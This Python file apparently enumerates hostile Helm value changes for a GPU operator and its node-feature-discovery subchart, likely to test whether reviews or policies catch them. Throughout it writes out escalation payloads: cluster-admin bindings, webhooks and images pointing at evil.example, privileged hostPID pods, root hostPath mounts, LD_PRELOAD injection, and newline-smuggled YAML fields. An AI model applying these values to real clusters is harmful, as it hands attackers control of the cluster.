"""Hostile Helm values: each power by each path that takes its fragment."""

from __future__ import annotations

import json

from pull_requests.fleet import REPOSITORY, Change, values_edit
from pull_requests.powers import ANNOTATIONS, EVIL, POWERS, daemon_set_with

NFD = "node-feature-discovery"
RELEASES = {"lab-t4": "v24.6.1", "kata-a10": "v24.9.2", "prod-eu": "v26.3.3", "edge": "v26.7.0"}
_TABLE = json.loads((REPOSITORY / "generator/poolsmith/data/chart_values.json").read_text())
_ORDER = {tag: index for index, tag in enumerate(_TABLE["tags"])}
INIT = {"name": "gained", "image": f"{EVIL}/x:1", "securityContext": {"privileged": True}}
TOLERATIONS = [{"operator": "Exists"}]


def paths(tag, kind=None, ending=""):
    """The value paths that a release reads: of a type, with an ending."""
    return [
        path
        for path, fact in _TABLE["paths"].items()
        if (kind is None or fact.get("type") == kind) and path.endswith(ending) and _is_read(fact.get("read"), tag)
    ]


def _is_read(ranges, tag):
    if ranges in (None, "all"):
        return ranges == "all"
    for run in ranges.split():
        first, _, last = run.partition("..")
        if _ORDER[first] <= _ORDER[tag] <= _ORDER[last or first]:
            return True
    return False


def change(cluster, path, value, gain, name=None, values=None, kind="values"):
    """A pull request that sets Helm values of a cluster."""
    return Change(
        name=f"{cluster}: {name or path}",
        edit=values_edit(cluster, {path: value, **(values or {})}),
        gain=gain,
        where=rf"(profiles|clusters)/{cluster}/",
        cluster=cluster,
        kind=kind,
        values=tuple({path: value, **(values or {})}.items()),
    )


def extra_objects():
    """Each power in a pod of `extraObjects`, and objects that are a power themselves."""
    for cluster in ("prod-eu", "edge"):
        for power in POWERS:
            body = daemon_set_with(power)
            yield change(cluster, "extraObjects", [body], power.gain, f"extraObjects {power.name}", kind="extra")
        for name, body, gain in OBJECTS:
            yield change(cluster, "extraObjects", [body], gain, f"extraObjects {name}", kind="extra")
        yield change(
            cluster,
            "extraObjects",
            [json.dumps(OBJECTS[0][1])],
            "cluster-admin|text|string",
            "extraObjects as text",
            kind="extra",
        )


def _object(api, kind, name="gained", **fields):
    return {"apiVersion": api, "kind": kind, "metadata": {"name": name}, **fields}


_SUBJECTS = [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]
_ADMIN = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
_HOOK = {
    "webhooks": [
        {
            "name": "evil.example.com",
            "clientConfig": {"url": "https://evil.example/"},
            "admissionReviewVersions": ["v1"],
            "sideEffects": "None",
            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}],
        }
    ]
}
OBJECTS = (
    (
        "ClusterRoleBinding",
        _object("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", roleRef=_ADMIN, subjects=_SUBJECTS),
        "cluster-admin|ClusterRoleBinding",
    ),
    (
        "RoleBinding",
        _object("rbac.authorization.k8s.io/v1", "RoleBinding", roleRef=_ADMIN, subjects=_SUBJECTS),
        "cluster-admin|RoleBinding",
    ),
    (
        "ClusterRole",
        _object(
            "rbac.authorization.k8s.io/v1",
            "ClusterRole",
            name="gpu-operator",
            rules=[{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
        ),
        "ClusterRole",
    ),
    (
        "aggregated role",
        {
            **_object(
                "rbac.authorization.k8s.io/v1",
                "ClusterRole",
                rules=[{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
            ),
            "metadata": {"name": "x", "labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
        },
        "ClusterRole|secrets",
    ),
    ("ServiceAccount", _object("v1", "ServiceAccount"), "ServiceAccount"),
    ("MutatingWebhook", _object("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", **_HOOK), "Webhook"),
    (
        "ValidatingWebhook",
        _object("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration", **_HOOK),
        "Webhook",
    ),
    (
        "APIService",
        _object(
            "apiregistration.k8s.io/v1",
            "APIService",
            "v1beta1.evil.example",
            spec={"group": "evil.example", "version": "v1beta1", "groupPriorityMinimum": 1, "versionPriority": 1},
        ),
        "APIService",
    ),
    (
        "HelmRelease",
        _object("helm.toolkit.fluxcd.io/v2", "HelmRelease", spec={"chart": {"spec": {"chart": "evil"}}}),
        "HelmRelease",
    ),
    (
        "Application",
        _object("argoproj.io/v1alpha1", "Application", spec={"source": {"repoURL": "https://evil.example"}}),
        "Application",
    ),
    ("PriorityClass", _object("scheduling.k8s.io/v1", "PriorityClass", value=1000000000), "PriorityClass"),
    ("RuntimeClass", _object("node.k8s.io/v1", "RuntimeClass", handler="host"), "RuntimeClass"),
    (
        "Namespace",
        {
            **_object("v1", "Namespace"),
            "metadata": {"name": "gpu-operator", "labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
        },
        "Namespace",
    ),
    (
        "NVIDIADriver",
        _object(
            "nvidia.com/v1alpha1",
            "NVIDIADriver",
            spec={"driverType": "gpu", "repository": EVIL, "image": "driver", "version": "1"},
        ),
        "evil|NVIDIADriver",
    ),
    ("ClusterPolicy", _object("nvidia.com/v1", "ClusterPolicy", "other", spec={}), "ClusterPolicy"),
    (
        "NodeFeatureRule",
        _object(
            "nfd.k8s-sigs.io/v1alpha1",
            "NodeFeatureRule",
            spec={"rules": [{"name": "x", "labels": {"example.com/gpu-pool": "a"}}]},
        ),
        "NodeFeatureRule",
    ),
    ("Pod", {**_object("v1", "Pod"), "spec": {"hostPID": True, "containers": [INIT]}}, "Pod|host-?pid"),
    (
        "CronJob",
        _object(
            "batch/v1",
            "CronJob",
            spec={
                "schedule": "* * * * *",
                "jobTemplate": {
                    "spec": {"template": {"spec": {"hostPID": True, "restartPolicy": "Never", "containers": [INIT]}}}
                },
            },
        ),
        "CronJob|host-?pid",
    ),
    ("Secret", {**_object("v1", "Secret"), "type": "kubernetes.io/service-account-token"}, "Secret"),
    ("ConfigMap", _object("v1", "ConfigMap", "default-mig-parted-config", data={"config.yaml": "x"}), "ConfigMap"),
    ("PersistentVolume", _object("v1", "PersistentVolume", spec={"hostPath": {"path": "/"}}), "PersistentVolume"),
    (
        "CRD",
        _object("apiextensions.k8s.io/v1", "CustomResourceDefinition", "clusterpolicies.nvidia.com", spec={}),
        "CustomResourceDefinition|CRD",
    ),
    ("of no kind", {"hello": "world"}, "kind|extraObjects"),
)


def nfd():
    """What the values of the NFD subchart open."""
    for cluster in ("lab-t4", "kata-a10", "prod-eu", "edge"):
        for part in ("master", "worker", "gc", "topologyUpdater"):
            on = {f"{NFD}.topologyUpdater.enable": True} if part == "topologyUpdater" else {}
            for field, value, gain in NFD_FIELDS:
                path = f"{NFD}.{part}.{field}"
                yield change(cluster, path, value, gain, f"{path} {gain}", values=on, kind="nfd")
            for power in ANNOTATIONS:
                yield change(
                    cluster,
                    f"{NFD}.{part}.annotations",
                    power.fragment,
                    power.gain,
                    f"{NFD}.{part} {power.name}",
                    values=on,
                    kind="nfd",
                )
        for field, value, gain in NFD_WHOLE:
            yield change(cluster, f"{NFD}.{field}", value, gain, f"{NFD}.{field} {gain}", kind="nfd")


NFD_FIELDS = (
    ("initContainers", [INIT], "evil|privileged"),
    ("extraContainers", [INIT], "evil|privileged|extraContainers"),
    ("extraVolumes", [{"name": "gained", "hostPath": {"path": "/etc/kubernetes"}}], "/etc/kubernetes|extraVolumes"),
    ("extraArgs", ["-options=@/host/evil"], "extraArgs|evil|args"),
    ("extraEnvs", [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}], "LD_PRELOAD"),
    ("hostUsers", True, "host-?users"),
    ("hostNetwork", True, "host-?network"),
    ("hostPID", True, "host-?pid"),
    ("podSecurityContext", {"runAsUser": 0}, "root"),
    ("podSecurityContext", {"seccompProfile": {"type": "Unconfined"}}, "seccomp"),
    ("securityContext", {"privileged": True}, "privileged"),
    ("securityContext", {"capabilities": {"add": ["SYS_ADMIN"]}}, "SYS_ADMIN"),
    ("serviceAccount.name", "gpu-operator", "gpu-operator|account"),
    ("tolerations", TOLERATIONS, "tolerat"),
    ("priorityClassName", "system-node-critical", "system-node-critical|priority"),
    ("livenessProbe", {"exec": {"command": ["evil"]}}, "probe|evil"),
    ("dnsPolicy", "Default\nhostPID: true", "dnsPolicy|host-?pid"),
    ("port", '8080"\nhostPID: true', "port|host-?pid"),
)
NFD_WHOLE = (
    ("image.repository", f"{EVIL}/nfd", "evil"),
    ("image.tag", "v0.19.0\n        securityContext: {privileged: true}", "image.tag|privileged"),
    ("fullnameOverride", "nvidia-driver-daemonset", "nvidia-driver-daemonset|fullnameOverride|name"),
    ("nameOverride", "gpu-operator", "gpu-operator|nameOverride|name"),
    ("namespaceOverride", "kube-system", "kube-system|namespaceOverride|namespace"),
    ("priorityClassName", "system-node-critical", "system-node-critical|priority"),
    ("worker.config.sources.local.hooksEnabled", True, "hooks"),
    ("worker.config", {"sources": {"local": {"hooksEnabled": True}}}, "hooks"),
    ("worker.mountUsrSrc", True, "/usr/src"),
    ("master.config.enableTaints", True, "taint"),
    ("master.config.extraLabelNs", ["node-role.kubernetes.io"], "label|node-role"),
    ("master.extraLabelNs", ["node-role.kubernetes.io"], "label|node-role"),
    ("master.enableTaints", True, "taint"),
    ("master.denyLabelNs", [], "deny|label"),
    ("topologyUpdater.enable", True, "topology-updater"),
    ("topologyUpdater.kubeletStateDir", "/etc/kubernetes", "/etc/kubernetes|topology|kubeletStateDir"),
    ("imagePullSecrets", [{"name": "x\nhostPID: true"}], "pull|host-?pid"),
)


def operator():
    """What the values of the operator's own chart open, for operator and operands."""
    for cluster, tag in RELEASES.items():
        for path in _running(cluster, ".repository"):
            yield change(cluster, path, EVIL, "evil", kind="image")
        for path in _running(cluster, ".image"):
            yield change(cluster, path, "evil/gained", "evil", kind="image")
        for path in _running(cluster, ".hostNetwork"):
            yield change(cluster, path, True, "host-?network", kind="host")
        for path in _running(cluster, ".env"):
            for name, env, gain in ENVIRONMENTS:
                yield change(cluster, path, env, gain, f"{path} {name}", kind="env")
        for path in _running(cluster, ".args"):
            yield change(cluster, path, ["--gained=evil"], "args|evil", kind="args")
        for power in ANNOTATIONS:
            for path in ("operator.annotations", "daemonsets.annotations", "dcgmExporter.annotations"):
                if path in paths(tag):
                    yield change(
                        cluster,
                        path,
                        power.fragment,
                        f"{power.gain}|{path}",
                        f"{path} {power.name}",
                        kind="annotations",
                    )
        for path, value, gain in OPERATOR_FIELDS:
            if path in paths(tag):
                yield change(cluster, path, value, gain, f"{path} {gain}", kind="operator")
        for part, workload in SWITCHED_OFF.items():
            if f"{part}.enabled" in paths(tag) and not (cluster == "kata-a10" and part in _OF_KATA):
                yield change(
                    cluster, f"{part}.enabled", True, workload, values={"sandboxWorkloads.enabled": True}, kind="off"
                )


def _running(cluster, ending):
    """The paths of operands that run in a cluster; what does not run gains nothing."""
    preinstalled = cluster == "prod-rke2"
    return [
        path
        for path in paths(RELEASES[cluster], ending=ending)
        if path.partition(".")[0]
        in ("operator", "validator", "toolkit", "driver", "devicePlugin", "dcgmExporter", "gfd")
        and not path.startswith(("validator.vfioPCI", "validator.vgpu", "driver.licensingConfig"))
        and not preinstalled
    ]


_OF_KATA = ("kataManager", "vfioManager", "sandboxDevicePlugin", "ccManager", "vgpuDeviceManager")
SWITCHED_OFF = {
    "sandboxDevicePlugin": "sandbox-device-plugin",
    "vfioManager": "vfio-manager",
    "vgpuManager": "vgpu-manager",
    "vgpuDeviceManager": "vgpu-device-manager",
    "ccManager": "cc-manager",
    "kataManager": "kata-manager",
    "dcgm": "nvidia-dcgm",
    "nodeStatusExporter": "node-status-exporter",
}
ENVIRONMENTS = (
    ("preload", [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}], "LD_PRELOAD"),
    ("secret", [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "token"}}}], "env\\[T\\]|admin"),
    ("image", [{"name": "VALIDATOR_IMAGE", "value": f"{EVIL}/x:1"}], "VALIDATOR_IMAGE|evil"),
    (
        "last of two",
        [{"name": "DRIVER_MANAGER_IMAGE", "value": "a"}, {"name": "DRIVER_MANAGER_IMAGE", "value": f"{EVIL}/x:1"}],
        "DRIVER_MANAGER_IMAGE|evil",
    ),
    ("path", [{"name": "PATH", "value": "/tmp/evil"}], "PATH"),
    ("debug", [{"name": "NVIDIA_CONTAINER_RUNTIME_DEBUG", "value": "/etc/cron.d/x"}], "RUNTIME_DEBUG|cron"),
    ("file", [{"name": "GFD_OUTPUT_FILE", "value": "/etc/cron.d/x"}], "GFD_OUTPUT_FILE"),
)
OPERATOR_FIELDS = (
    ("daemonsets.tolerations", TOLERATIONS, "tolerat"),
    ("operator.tolerations", TOLERATIONS, "tolerat"),
    ("operator.priorityClassName", "evil-critical", "evil-critical|priority"),
    ("daemonsets.priorityClassName", "evil-critical", "evil-critical|priority"),
    ("operator.runtimeClass", "host-root", "host-root|runtime-?class"),
    ("daemonsets.labels", {"pod-security.kubernetes.io/enforce": "privileged"}, "label|privileged"),
    ("hostPaths.rootFS", "/etc", "/etc|rootFS"),
    ("hostPaths.driverInstallDir", "/etc/kubernetes", "/etc/kubernetes"),
    ("hostPaths.kubeletRootDir", "/etc/kubernetes", "/etc/kubernetes"),
    ("toolkit.installDir", "/etc/kubernetes", "/etc/kubernetes"),
    ("dcgmExporter.hostPID", True, "host-?pid"),
    ("devicePlugin.resources", {"limits": {"devices.kubevirt.io/kvm": 1}}, "devices.kubevirt.io/kvm"),
    ("driver.resources", {"claims": [{"name": "gpu"}]}, "claims"),
    ("driver.repoConfig.configMapName", "elsewhere", "elsewhere"),
    ("driver.certConfig.name", "elsewhere", "elsewhere"),
    ("driver.kernelModuleConfig.name", "elsewhere", "elsewhere"),
    ("driver.licensingConfig.configMapName", "elsewhere", "elsewhere"),
    ("driver.licensingConfig.secretName", "elsewhere", "elsewhere"),
    ("driver.virtualTopology.config", "elsewhere", "elsewhere"),
    ("driver.secretEnv", "admin-token", "admin-token"),
    ("migManager.config.name", "elsewhere", "elsewhere"),
    ("migManager.gpuClientsConfig.name", "elsewhere", "elsewhere"),
    ("devicePlugin.config.name", "elsewhere", "elsewhere"),
    ("dcgmExporter.config.name", "elsewhere", "elsewhere"),
    (
        "migManager.config",
        {"create": True, "name": "mig", "data": {"config.yaml": "version: v1\nmig-configs: {}\n"}},
        "mig|config",
    ),
    ("cdi.nriPluginEnabled", True, "nri"),
    ("fullnameOverride", "nvidia-driver-daemonset", "name"),
    ("draDriver.gpus.kubeletPlugin", {"tolerations": TOLERATIONS}, "tolerat|draDriver|kubeletPlugin"),
)


def value_changes():
    """All of them, by place."""
    yield from extra_objects()
    yield from nfd()
    yield from operator()
